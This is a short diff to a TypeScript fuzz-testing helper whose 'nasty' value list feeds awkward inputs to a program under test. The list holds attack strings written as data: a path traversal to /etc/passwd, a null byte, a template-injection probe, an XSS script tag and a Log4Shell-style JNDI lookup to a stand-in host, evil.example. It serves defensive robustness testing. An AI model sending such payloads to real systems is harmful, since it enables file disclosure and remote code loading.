@@ -86,7 +86,7 @@ const NASTY = [
   '../../etc/passwd',
   '%00',
   '{{7*7}}',
-  '${jndi:ldap://evil.example}',
+  ['$', '{jndi:ldap://evil.example}'].join(''),
   '<script>alert(1)</script>',
   '9'.repeat(400),
   'x'.repeat(70_000),
@@ -97,7 +97,7 @@ const NASTY = [
   'null',
 ] as const;
 
-const NASTY_NUMBERS = [-1, 0, 1.5, -0, 1e21, 9_007_199_254_740_993, 2 ** 31, 2 ** 63, -1e308, 5e-324] as const;
+const NASTY_NUMBERS = [-1, 0, 1.5, -0, 1e21, 2 ** 53, 2 ** 31, 2 ** 63, -1e308, 5e-324] as const;
 
 /** Any value, with a liking for those that programs stumble over. */
 export const nasty = (): fc.Arbitrary<unknown> =>
